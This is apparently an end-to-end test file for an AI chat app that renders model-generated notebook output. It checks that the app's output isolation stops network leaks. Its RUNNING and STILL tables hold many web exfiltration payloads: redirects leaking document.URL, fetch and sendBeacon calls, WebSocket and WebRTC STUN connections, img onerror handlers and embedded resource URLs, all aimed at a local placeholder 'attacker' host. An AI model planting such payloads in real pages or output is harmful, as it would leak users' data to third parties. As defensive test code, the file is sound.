"""What a cell puts out reaches nothing by way of the browser (B34, B36, B41): connections and datagrams are watched."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest
from playwright.sync_api import Error as PlaywrightError, Page, expect

from lci.testing import server as scripted
from lci.testing.server import ScriptedServer
from tests.e2e.attacking import Elsewhere, elsewhere
from tests.e2e.driving import ask, open_page, settle, until, wait_done

#: In HTML that runs scripts once the person lets it; AT is where the attacker listens, PORT its port.
RUNNING = {
    "location": "<script>location.href = 'AT/location?' + document.URL</script>",
    "top": (
        "<script>for (const place of [top, parent]) try { place.location.href = 'AT/top' } catch (e) {}</script>"
    ),
    "open": "<script>window.open('AT/open')</script>",
    "fetch": "<script>fetch('AT/fetch').catch(() => 0); navigator.sendBeacon('AT/beacon')</script>",
    "socket": "<script>try { new WebSocket('ws://127.0.0.1:PORT/socket') } catch (e) {}</script>",
    "webrtc": (
        "<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}); c.createDataChannel('x');"
        "c.createOffer().then(offer => c.setLocalDescription(offer));</script>"
    ),
    "image": "<script>new Image().src = 'AT/script-image'</script>",
    "import": "<script type=module>import('AT/module.js').catch(() => 0)</script><script src='AT/script.js'></script>",
    "worker": "<script>try { new Worker('AT/worker.js') } catch (e) {}</script>",
    "form": "<form action='AT/form'></form><script>document.forms[0].submit()</script>",
    "prefetch": "<script>for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload']) {"
    "const l = document.createElement('link'); l.rel = rel; l.href = 'AT/' + rel; document.head.append(l) }</script>",
}  # fmt: skip
#: WebRTC's constructor, taken from a child of the frame.
IN_A_CHILD = (
    "<iframe srcdoc=\"<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
    "c.createDataChannel('x'); c.createOffer().then(offer => c.setLocalDescription(offer));</script>\"></iframe>"
)
#: Forms that need no script.
STILL = {
    "handler": "display(HTML('<img src=x onerror=\"location.href=\\'AT/handler\\'\">'))",
    "refresh": "display(HTML('''<meta http-equiv=refresh content=\"0;url=AT/refresh\"><iframe src='AT/frame'></iframe>'''))",
    "elements": (
        "display(HTML('''<img src='AT/img'><video src='AT/video'></video><audio src='AT/audio'></audio><embed src='AT/embed'>"
        "<object data='AT/object'></object><link rel=stylesheet href='AT/css'><style>@import url(AT/import);"
        "body { background: url(AT/background) }</style><div style='background: url(AT/style)'>x</div>'''))"
    ),
    "large": "display(HTML('''<img src='AT/large'><style>@import url(AT/large-css)</style>''' + '<p>text</p>' * 20_000))",
    "svg": (
        "display(SVG('''<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"50\" height=\"50\"><image href=\"AT/svg\" width=\"9\""
        " height=\"9\"/><script>fetch(\"AT/svg-script\")</script></svg>'''))"
    ),
    "latex": "display(Latex('$$x$$\\n\\n![](AT/latex)\\n<img src=\"AT/latex-html\">\\n\\n$$y$$'))",
    "markdown": "display(Markdown('![](AT/markdown) <img src=\"AT/markdown-html\">\\n\\n[a]: AT/ref\\n![b][a]'))",
    "vega": (
        "display({'application/vnd.vegalite.v5+json': {'data': {'values': [{'a': 1, 'u': 'AT/vega-field'}]}, 'layer': ["
        "{'mark': {'type': 'image', 'url': 'AT/vega'}}, {'mark': 'image', 'encoding': {'url': {'field': 'u'}}}]},"
        "'text/plain': 'chart'}, raw=True)\n"
        "display({'application/vnd.vegalite.v5+json': {'data': {'url': 'AT/vega-data'}, 'mark': 'bar'}, 'text/plain': 'c'},"
        " raw=True)"
    ),
    "plotly": (
        "display({'application/vnd.plotly.v1+json': {'data': [{'type': 'scattermap', 'lat': [1], 'lon': [1]}], 'layout':"
        " {'map': {'style': 'AT/style.json', 'layers': [{'sourcetype': 'raster', 'source': ['AT/{z}/{x}/{y}.png']}]},"
        " 'images': [{'source': 'AT/plotly-image'}]}, 'config': {'plotlyServerURL': 'AT/cloud', 'topojsonURL': 'AT/topo'}},"
        " 'text/plain': 'figure'}, raw=True)"
    ),
}  # fmt: skip


@pytest.fixture
def attacker() -> Iterator[Elsewhere]:
    with elsewhere() as place:
        yield place


def put_out(page: Page, model: ScriptedServer, attacker: Elsewhere, statements: list[str]) -> None:
    source = "from IPython.display import HTML, SVG, Latex, Markdown, display\n" + "\n".join(statements)
    source = source.replace("AT", attacker.url).replace("PORT", str(attacker.port))
    model.add(scripted.code(source), scripted.text("Done."))
    ask(page, "show it")
    wait_done(page)
    settle(page)


def arrived(page: Page, attacker: Elsewhere) -> list[str]:
    """What reached the attacker, once what is sent after it has: a page of another tab, and a datagram."""
    settle(page)
    frames = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(true))))"
    page.evaluate(frames)
    other = page.context.new_page()
    attacker.pages["/control"] = "here"
    for _ in range(3):
        other.goto(attacker.url + "/control")
    other.close()
    with socket.socket(type=socket.SOCK_DGRAM) as last:
        last.sendto(b"control", ("127.0.0.1", attacker.port))
    until(lambda: any("control" in each for each in attacker.heard if each.startswith("UDP")), 20, "the datagram")
    return [each for each in attacker.heard if "control" not in each and "favicon" not in each]


def test_no_output_reaches_anybody_as_first_shown(page: Page, model: ScriptedServer, attacker: Elsewhere) -> None:
    """B34, B36, B41: twenty-one forms; requests of most of them arrived."""
    running = [f"display(HTML('''{html}'''))" for html in [*RUNNING.values(), IN_A_CHILD]]
    assert len(running) + len(STILL) >= 20
    address = page.url
    put_out(page, model, attacker, [*running, *STILL.values()])
    more = page.locator("[class*=st-key-more_] button")
    if more.count():
        more.first.click()
    expect(page.get_by_text("have not run").first).to_be_visible()
    assert page.get_by_text("have not run").count() >= len(running)
    assert page.url.split("?")[0] == address.split("?")[0]
    assert arrived(page, attacker) == []


#: What arrives all the same once the person has let scripts run; docs/isolation.md says so.
LEFT_OPEN = {"UDP"}


def test_after_the_click_scripts_run_and_reach_only_what_is_said(
    page: Page, model: ScriptedServer, attacker: Elsewhere
) -> None:
    """B36: one click for the conversation, in frames of their own."""
    mark = "<div id=mark>waiting</div><script>document.getElementById('mark').textContent = 'it ran'</script>"
    running = [f"display(HTML('''{html}'''))" for html in [mark, *RUNNING.values()]]
    put_out(page, model, attacker, running)
    assert attacker.heard == []
    page.locator("[class*=st-key-draw_] button").first.click()
    expect(page.locator("iframe").first.content_frame.get_by_text("it ran")).to_be_visible()
    expect(page.locator("[class*=st-key-draw_]")).to_have_count(0)
    until(lambda: page.locator("iframe").count() >= 10, 30, "every frame")
    assert {each.split()[0] for each in arrived(page, attacker)} <= LEFT_OPEN
    # For all that comes later in the conversation, and for no other.
    put_out(page, model, attacker, [f"display(HTML('''{mark.replace('it ran', 'it ran again')}'''))"])
    expect(page.locator("iframe").last.content_frame.get_by_text("it ran again")).to_be_visible()
    page.locator(".st-key-new_conversation button").click()
    put_out(page, model, attacker, [f"display(HTML('''{mark}'''))"])
    expect(page.get_by_text("have not run")).to_be_visible()


@pytest.mark.nightly
def test_a_child_of_a_frame_that_is_let_run_reaches_no_more(
    page: Page, model: ScriptedServer, attacker: Elsewhere
) -> None:
    """B36: where the browser knows the header that forbids it, this costs the frame its process, and nothing else."""
    put_out(page, model, attacker, [f"display(HTML('''{IN_A_CHILD}'''))"])
    crashed: list[str] = []
    page.on("crash", lambda _: crashed.append("crashed"))
    page.locator("[class*=st-key-draw_] button").first.click()

    def is_over() -> bool:
        try:
            return bool(crashed) or page.locator("iframe").count() == 1
        except PlaywrightError:
            # It crashed while it was asked.
            return True

    until(is_over, 30, "the frame")
    again = page.context.new_page()
    # The browser may give up the page for it; opened again it does not run, and the conversation is there.
    open_page(again, page.url)
    expect(again.get_by_text("have not run")).to_be_visible()
    assert {each.split()[0] for each in arrived(again, attacker)} <= LEFT_OPEN
    put_out(again, model, attacker, ["print('it goes on')"])
    expect(again.locator("[class*=st-key-actions_]")).to_have_count(2)
    again.close()


@pytest.mark.nightly
def test_geographic_charts_are_drawn_without_a_network(page: Page, model: ScriptedServer, attacker: Elsewhere) -> None:
    """B8, B41: the outlines come from this server; they were asked of a public one."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    figures = """import plotly.express as px
px.scatter_geo(lat=[48.1, 35.7], lon=[11.6, 139.7], text=["a", "b"]).show()
px.choropleth(locations=["DEU", "JPN"], color=[1, 2]).show()
px.choropleth(locations=["CA", "TX"], locationmode="USA-states", color=[1, 2], scope="usa").show()
px.scatter_map(lat=[48.1], lon=[11.6]).show()
"""
    put_out(page, model, attacker, [figures])
    expect(page.locator(".st-key-chat_pane .geo .land path, .st-key-chat_pane .geo path.land").first).to_be_attached()
    expect(page.locator(".st-key-chat_pane .choroplethlayer path").first).to_be_attached()
    settle(page)
    foreign = [url for url in asked if not url.startswith((page.url.split("/?")[0], "data:", "blob:"))]
    assert foreign == []
    assert [url for url in asked if "/outlines/" in url]
